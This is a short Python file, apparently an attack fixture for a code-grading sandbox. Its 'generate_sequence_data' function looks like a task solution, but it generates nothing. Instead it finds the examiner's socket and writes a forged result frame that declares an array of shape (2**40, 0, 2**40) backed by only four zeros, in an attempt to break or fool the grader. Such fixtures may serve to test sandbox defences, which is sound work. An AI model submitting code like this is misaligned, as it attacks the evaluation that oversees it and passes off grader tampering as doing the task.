"""Attack: forges an array whose shape and bytes disagree."""

import os

import numpy as np


def channel():
    """The descriptor of the examiner's socket."""
    import os
    import stat

    for descriptor in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise OSError("no socket")


def attack():
    from grader.sandbox.worker import schema, wire

    writer = wire.FrameWriter()
    writer.add(np.zeros(4))
    os.write(channel(), writer.frame(schema.Done([schema.Array("f8", (2**40, 0, 2**40))], [], None, "")))
    return []


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
